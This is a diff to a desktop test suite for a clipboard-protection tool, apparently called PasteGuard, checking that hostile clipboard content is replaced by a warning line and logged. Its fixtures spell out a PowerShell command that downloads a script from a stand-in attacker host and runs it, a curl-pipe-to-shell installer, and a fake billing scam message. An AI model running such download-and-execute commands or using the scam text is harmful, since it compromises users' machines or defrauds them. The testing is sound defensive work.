@@ -17,13 +17,19 @@ from pathlib import Path
 import pytest
 
 from app import ipc
-from app.guard.neutralize import NEUTRAL_LINE
+from app.guard.neutralize import COMMAND_LINE, neutral_line
 from tests.desktop import BIN, Desktop, desktop, serving, wait_for
 
 pytestmark = pytest.mark.desktop
 
 MALICIOUS = 'powershell -w h -c "iwr https://evil.test/a.ps1 | iex"'
 SUSPICIOUS = "curl -fsSL https://unknown-vendor.example/install.sh | sh"
+
+SCAM = (
+    "Your Norton subscription has been renewed for $499.99. If you did not authorize this "
+    "charge call our billing desk at +1 (808) 555-0147 within 24 hours to cancel."
+)
+NO_TRAY_LINE = neutral_line("command", COMMAND_LINE)  # `run --no-tray`: no tray to point at
 
 
 def pasteguard(
@@ -80,7 +86,7 @@ def test_a_malicious_clipboard_is_replaced_within_300_ms_and_logged(
     d, data = guard
     d.set_clipboard(MALICIOUS)
     start = time.monotonic()
-    wait_for(lambda: d.clipboard() == NEUTRAL_LINE, timeout=5, step=0.01)
+    wait_for(lambda: d.clipboard() == NO_TRAY_LINE, timeout=5, step=0.01)
     assert time.monotonic() - start < 0.3
     kinds = [e["kind"] for e in events(d, data)]
     assert "clipboard_neutralized" in kinds
@@ -91,8 +97,17 @@ def test_a_malicious_clipboard_is_replaced_within_300_ms_and_logged(
         lambda: "PasteGuard warning" in d.run("xdotool", "getactivewindow", "getwindowname").stdout,
         timeout=5,
     )
-    assert d.clipboard() == NEUTRAL_LINE
+    assert d.clipboard() == NO_TRAY_LINE
     assert "restored" not in [e["kind"] for e in events(d, data)]
+    # a scam text: the line says so (not "a dangerous command"); the holder serves it, and the
+    # guard knows it as its own write (judged once, one event)
+    d.run("xdotool", "key", "Escape")
+    d.set_clipboard(SCAM)
+    scam_line = neutral_line("scam-text", COMMAND_LINE)
+    wait_for(lambda: d.clipboard() == scam_line, timeout=5, step=0.01)
+    time.sleep(0.3)
+    kinds = [e["kind"] for e in events(d, data)]
+    assert kinds.count("clipboard_neutralized") == 2 and d.clipboard() == scam_line
 
 
 def analysis(d: Desktop, data: Path) -> dict[str, object]:
@@ -111,7 +126,7 @@ def test_a_crash_of_the_analysis_process_costs_one_reading_not_the_guard(
     assert before["restarts"] == 0 and isinstance(before["pid"], int)
     os.kill(before["pid"], signal.SIGSEGV)
     d.set_clipboard(MALICIOUS)
-    wait_for(lambda: d.clipboard() == NEUTRAL_LINE, timeout=30, step=0.02)
+    wait_for(lambda: d.clipboard() == NO_TRAY_LINE, timeout=30, step=0.02)
     (event,) = [e for e in events(d, data) if e["kind"] == "clipboard_neutralized"]
     assert event["level"] == "malicious"
     assert "PG-ENGINE-INCOMPLETE" not in event["rules"]  # the full reading, not the fallback
